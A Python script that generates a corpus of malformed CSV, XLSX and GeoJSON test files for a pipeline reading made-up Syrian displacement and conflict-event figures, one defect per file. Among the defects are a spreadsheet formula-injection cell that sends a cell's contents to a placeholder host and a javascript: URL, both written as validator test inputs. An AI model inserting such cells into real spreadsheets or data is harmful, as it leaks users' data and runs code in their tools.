"""Write the malformed-file corpus: one made-up file per defect, byte for byte.

Run ``python tests/corpus/make_corpus.py`` to (re)create the files next to this script.
The files are committed; this script is how they were made, so the defect in each one is
written down in code rather than hidden in bytes a reviewer cannot see (a Windows-1256
file, a UTF-16 file, a PNG renamed .csv). Every file is MADE UP: the publisher is
"MADE-UP" and the document says "not real data"; names and P-codes are real so that place
matching is exercised. Each file carries exactly ONE defect; the other rows are clean so
that the accounting (rows read = accepted + rejected + unmatched) is checked too.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent

HEADER = [
    "period_start", "period_end", "published_date", "metric", "value", "qualifier",
    "area_name_as_written", "pcode", "pcode_level", "publisher", "document", "url", "note",
]  # fmt: skip
DOC = "Made-up corpus file (not real data)"


def row(**cells: str) -> list[str]:
    """A clean figures row (Dana, 248842 IDPs present on 8 March 2020) with ``cells`` replaced."""
    base = {
        "period_start": "",
        "period_end": "2020-03-08",
        "published_date": "2020-03-16",
        "metric": "idps_present",
        "value": "248842",
        "qualifier": "",
        "area_name_as_written": "Dana",
        "pcode": "SY070301",
        "pcode_level": "3",
        "publisher": "MADE-UP",
        "document": DOC,
        "url": "",
        "note": "",
    }
    unknown = set(cells) - set(base)
    assert not unknown, unknown
    return [{**base, **cells}[c] for c in HEADER]


SALQIN = {"value": "95268", "area_name_as_written": "Salqin", "pcode": "SY070302"}


def csv_text(
    rows: list[list[str]], header: list[str] = HEADER, delimiter: str = ",", newline: str = "\n"
) -> str:
    """Minimal CSV writer: quotes a cell only when it holds the delimiter, a quote or a newline."""

    def cell(c: str) -> str:
        if any(ch in c for ch in (delimiter, '"', "\n", "\r")):
            return '"' + c.replace('"', '""') + '"'
        return c

    return "".join(delimiter.join(map(cell, r)) + newline for r in [header, *rows])


def one_bad(**cells: str) -> str:
    """Two clean rows and, between them, one row with the defect.

    The defect row names its own document, so it is never the same figure as the first row
    (that would be a second defect: a figure given twice, see ``madeup_repeat_*``).
    """
    return csv_text([row(), row(**{"document": DEFECT_DOC, **cells}), row(**SALQIN)])


DEFECT_DOC = DOC + ", the row with the defect"


def png_bytes() -> bytes:
    """A real 1x1 PNG (signature, IHDR, IDAT, IEND)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def zip_bytes() -> bytes:
    """A zip archive holding a text file (not a workbook), with a fixed timestamp."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo("notes.txt", date_time=(2020, 3, 8, 0, 0, 0))
        z.writestr(info, "Made-up: a zip archive renamed .xlsx, not a workbook.\n")
    return buf.getvalue()


def xlsx_bytes(rows: list[list[str]]) -> bytes:
    """A real XLSX workbook (openpyxl) with the figures header and ``rows``, fixed metadata."""
    import datetime as dt

    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "figures"
    ws.append(HEADER)
    for r in rows:
        ws.append(r)
    fixed = dt.datetime(2020, 3, 8)
    wb.properties.created = wb.properties.modified = fixed
    wb.properties.creator = "MADE-UP corpus"
    buf = io.BytesIO()
    wb.save(buf)
    return _fixed_zip(buf.getvalue())


def _fixed_zip(data: bytes) -> bytes:
    """The same zip with fixed member timestamps and a fixed docProps "modified" date, so
    re-running this script gives byte-identical files (openpyxl stamps the save time)."""
    import re

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            body = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                body = re.sub(
                    rb"(<dcterms:modified[^>]*>)[^<]*", rb"\g<1>2020-03-08T00:00:00Z", body
                )
            member = zipfile.ZipInfo(info.filename, date_time=(2020, 3, 8, 0, 0, 0))
            member.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(member, body)
    return out.getvalue()


def geojson(features: list[dict], **extra: object) -> bytes:
    """A GeoJSON FeatureCollection of admin-3 areas (the boundary layout)."""
    doc = {"type": "FeatureCollection", "name": "madeup", **extra, "features": features}
    return (json.dumps(doc, ensure_ascii=False, indent=1) + "\n").encode("utf-8")


def feature(pcode: str, name: str, geometry: dict | None) -> dict:
    return {
        "type": "Feature",
        "properties": {
            "ADM3_PCODE": pcode,
            "ADM3_EN": name,
            "ADM2_PCODE": pcode[:6],
            "ADM1_PCODE": pcode[:4],
            "note": DOC,
        },
        "geometry": geometry,
    }


def square(lon: float, lat: float, d: float = 0.05) -> dict:
    ring = [[lon, lat], [lon + d, lat], [lon + d, lat + d], [lon, lat + d], [lon, lat]]
    return {"type": "Polygon", "coordinates": [ring]}


DANA = (36.70, 36.17)  # roughly Dana sub-district, lon/lat
SALQIN_LL = (36.45, 36.13)

ACLED_HEADER = [
    "event_id_cnty",
    "event_date",
    "year",
    "event_type",
    "sub_event_type",
    "country",
    "admin1",
    "location",
    "latitude",
    "longitude",
    "source",
    "fatalities",
]
UCDP_HEADER = [
    "id",
    "year",
    "type_of_violence",
    "country",
    "where_coordinates",
    "latitude",
    "longitude",
    "date_start",
    "date_end",
    "best",
    "high",
    "low",
]


def acled_row(**cells: str) -> list[str]:
    base = {
        "event_id_cnty": "SYR00001",
        "event_date": "15 February 2020",
        "year": "2020",
        "event_type": "Explosions/Remote violence",
        "sub_event_type": "Air/drone strike",
        "country": "Syria",
        "admin1": "Idleb",
        "location": "Dana (made up)",
        "latitude": "36.2122",
        "longitude": "36.7706",
        "source": "MADE-UP",
        "fatalities": "2",
    }
    return [{**base, **cells}[c] for c in ACLED_HEADER]


def ucdp_row(**cells: str) -> list[str]:
    base = {
        "id": "900001",
        "year": "2020",
        "type_of_violence": "1",
        "country": "Syria",
        "where_coordinates": "Dana (made up)",
        "latitude": "36.2122",
        "longitude": "36.7706",
        "date_start": "2020-02-15",
        "date_end": "2020-02-15",
        "best": "2",
        "high": "3",
        "low": "2",
    }
    return [{**base, **cells}[c] for c in UCDP_HEADER]


def _hxl_misplaced() -> str:
    header = ["Date", "Sub-district P-code", "IDPs present", "Source", "Document"]
    tags = ["#date", "#adm3+code", "#affected+idps", "#meta+source", "#meta+document"]
    data = [
        ["2020-03-08", "SY070301", "248842", "MADE-UP", DOC],
        ["2020-03-08", "SY070302", "95268", "MADE-UP", DOC],
    ]
    # The hashtag row belongs right under the header; here it sits under the first data row.
    return csv_text([data[0], tags, data[1]], header=header)


def _hxl_adm1_code_holds_subdistrict() -> str:
    header = ["Date", "Governorate P-code", "IDPs present", "Source", "Document"]
    tags = ["#date", "#adm1+code", "#affected+idps", "#meta+source", "#meta+document"]
    data = [
        ["2020-03-08", "SY07", "248842", "MADE-UP", DOC],
        ["2020-03-08", "SY070300", "95268", "MADE-UP", DOC],  # a sub-district under #adm1
        ["2020-03-08", "SY02", "1000", "MADE-UP", DOC],
    ]
    return csv_text([tags, *data], header=header)


#: filename -> bytes. One defect each; the name says which.
FILES: dict[str, Callable[[], bytes]] = {
    # --- encodings and delimiters (all rows good: the reader must cope) ---
    "madeup_windows1256_arabic_no_bom.csv": lambda: csv_text(
        [
            row(area_name_as_written="الدانا", pcode="", pcode_level=""),
            row(**{**SALQIN, "area_name_as_written": "سلقين", "pcode": "", "pcode_level": ""}),
        ]
    ).encode("cp1256"),
    "madeup_utf8_bom.csv": lambda: b"\xef\xbb\xbf" + csv_text([row(), row(**SALQIN)]).encode(),
    "madeup_utf16_with_bom.csv": lambda: csv_text([row(), row(**SALQIN)]).encode("utf-16"),
    "madeup_semicolon_delimited.csv": lambda: csv_text(
        [row(), row(**SALQIN)], delimiter=";"
    ).encode(),
    "madeup_tab_delimited.csv": lambda: csv_text([row(), row(**SALQIN)], delimiter="\t").encode(),
    # --- numbers ---
    "madeup_arabic_indic_digits.csv": lambda: one_bad(value="٢٤٨٨٤٢").encode(),
    "madeup_quoted_thousands_948000.csv": lambda: one_bad(value="948,000").encode(),
    "madeup_ambiguous_decimal_comma_1_80.csv": lambda: one_bad(value="1,80").encode(),
    "madeup_negative_count.csv": lambda: one_bad(value="-500").encode(),
    "madeup_value_na.csv": lambda: one_bad(value="n/a").encode(),
    # --- dates ---
    "madeup_dayfirst_date_03_04_2020.csv": lambda: one_bad(period_end="03/04/2020").encode(),
    "madeup_dayfirst_settled_by_25_03_2020.csv": lambda: csv_text(
        [
            row(),
            row(document=DEFECT_DOC, period_end="03/04/2020"),
            row(**SALQIN, period_end="25/03/2020"),
        ]
    ).encode(),
    "madeup_date_2020-02-30.csv": lambda: one_bad(period_end="2020-02-30").encode(),
    "madeup_date_31_04_2020.csv": lambda: one_bad(period_end="31/04/2020").encode(),
    "madeup_date_year_1820.csv": lambda: one_bad(period_end="1820-03-08").encode(),
    "madeup_period_start_after_end.csv": lambda: one_bad(
        metric="idp_arrivals", period_start="2020-03-31", period_end="2020-03-01"
    ).encode(),
    # --- empty or not text at all ---
    "madeup_empty_0_bytes.csv": lambda: b"",
    "madeup_whitespace_only.csv": lambda: b"  \n\t\n   \r\n",
    "madeup_header_only.csv": lambda: csv_text([]).encode(),
    "madeup_png_renamed.csv": png_bytes,
    "madeup_zip_renamed.xlsx": zip_bytes,
    # --- structure ---
    "madeup_truncated_last_line.csv": lambda: (
        csv_text([row(), row(**SALQIN)]) + ",2020-03-08,2020-03-16,idps_pre"
    ).encode(),
    "madeup_extra_cells_in_row.csv": lambda: csv_text(
        [row(), [*row(value="1000"), "surplus", "cells"], row(**SALQIN)]
    ).encode(),
    "madeup_duplicate_header_columns.csv": lambda: csv_text(
        [[*row(), "999"], [*row(**SALQIN), "111"]], header=[*HEADER, "value"]
    ).encode(),
    "madeup_duplicate_header_differing_case.csv": lambda: csv_text(
        [[*row(), "999"], [*row(**SALQIN), "111"]], header=[*HEADER, "Value"]
    ).encode(),
    "madeup_blank_lines_between_rows.csv": lambda: csv_text(
        [row(), [], [""] * len(HEADER), row(**SALQIN)]
    ).encode(),
    "madeup_unknown_layout.csv": lambda: b"name,population\nDana,1000\nSalqin,2000\n",
    "madeup_missing_value_column.csv": lambda: csv_text(
        [[c for c, h in zip(row(), HEADER, strict=True) if h != "value"]],
        header=[h for h in HEADER if h != "value"],
    ).encode(),
    # --- places ---
    "madeup_unknown_pcode_SY999999.csv": lambda: one_bad(pcode="SY999999").encode(),
    "madeup_ambiguous_name_ariha_no_level.csv": lambda: one_bad(
        area_name_as_written="Ariha", pcode="", pcode_level=""
    ).encode(),
    "madeup_unmatched_name_atlantis.csv": lambda: one_bad(
        area_name_as_written="Atlantis", pcode="", pcode_level=""
    ).encode(),
    "madeup_fuzzy_name_saraqeb.csv": lambda: one_bad(
        area_name_as_written="Saraqeb", pcode="", pcode_level="3"
    ).encode(),
    # --- text cells ---
    "madeup_formula_injection_hyperlink.csv": lambda: one_bad(
        note='=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    ).encode(),
    "madeup_unknown_qualifier.csv": lambda: one_bad(qualifier="roughly-ish").encode(),
    "madeup_url_javascript_scheme.csv": lambda: one_bad(url="javascript:alert(1)").encode(),
    "madeup_url_without_scheme.csv": lambda: one_bad(url="www.example.org/report").encode(),
    "madeup_carriage_return_in_note.csv": lambda: one_bad(note="line1\rline2").encode(),
    # --- the same figure twice ---
    "madeup_repeat_figure_different_value.csv": lambda: csv_text(
        [row(), row(value="250000"), row(**SALQIN)]
    ).encode(),
    "madeup_repeat_figure_same_value.csv": lambda: csv_text(
        [row(), row(), row(**SALQIN)]
    ).encode(),
    # --- P-code levels ---
    "madeup_pcode_level_contradiction.csv": lambda: one_bad(
        area_name_as_written="Harim", pcode="SY070300", pcode_level="1"
    ).encode(),
    "madeup_hxl_adm1_code_holds_subdistrict.csv": lambda: _hxl_adm1_code_holds_subdistrict().encode(),
    # --- other layouts ---
    "madeup_hxl_misplaced_hashtag_row.csv": lambda: _hxl_misplaced().encode(),
    "madeup_acled_bad_latitude.csv": lambda: csv_text(
        [
            acled_row(),
            acled_row(event_id_cnty="SYR00002", latitude="361.2122"),
            acled_row(event_id_cnty="SYR00003"),
        ],
        header=ACLED_HEADER,
    ).encode(),
    "madeup_acled_date_9999_placeholder.csv": lambda: csv_text(
        [
            acled_row(),
            acled_row(event_id_cnty="SYR00002", event_date="9999-12-31"),
            acled_row(event_id_cnty="SYR00003"),
        ],
        header=ACLED_HEADER,
    ).encode(),
    "madeup_ucdp_fatalities_minus_one.csv": lambda: csv_text(
        [ucdp_row(), ucdp_row(id="900002", best="-1"), ucdp_row(id="900003")], header=UCDP_HEADER
    ).encode(),
    "madeup_xlsx_value_na.xlsx": lambda: xlsx_bytes([row(), row(value="n/a"), row(**SALQIN)]),
    # --- boundaries ---
    "madeup_geojson_self_intersecting_ring.geojson": lambda: geojson(
        [
            feature("SY070301", "Dana", square(*DANA)),
            feature(
                "SY070302",
                "Salqin",
                {
                    "type": "Polygon",
                    "coordinates": [
                        [
                            [SALQIN_LL[0], SALQIN_LL[1]],
                            [SALQIN_LL[0] + 0.05, SALQIN_LL[1] + 0.05],
                            [SALQIN_LL[0] + 0.05, SALQIN_LL[1]],
                            [SALQIN_LL[0], SALQIN_LL[1] + 0.05],
                            [SALQIN_LL[0], SALQIN_LL[1]],
                        ]
                    ],
                },
            ),  # a bow tie
        ]
    ),
    "madeup_geojson_null_geometry.geojson": lambda: geojson(
        [
            feature("SY070301", "Dana", square(*DANA)),
            feature("SY070302", "Salqin", None),
        ]
    ),
    "madeup_geojson_epsg3857_crs_member.geojson": lambda: geojson(
        [
            feature(
                "SY070301",
                "Dana",
                {
                    "type": "Polygon",
                    "coordinates": [
                        [
                            [4085226.0, 4322718.0],
                            [4090792.0, 4322718.0],
                            [4090792.0, 4329632.0],
                            [4085226.0, 4329632.0],
                            [4085226.0, 4322718.0],
                        ]
                    ],
                },
            )
        ],
        crs={"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::3857"}},
    ),
}


def main() -> None:
    for name, make in FILES.items():
        (HERE / name).write_bytes(make())
    print(f"wrote {len(FILES)} files to {HERE}")


if __name__ == "__main__":
    main()
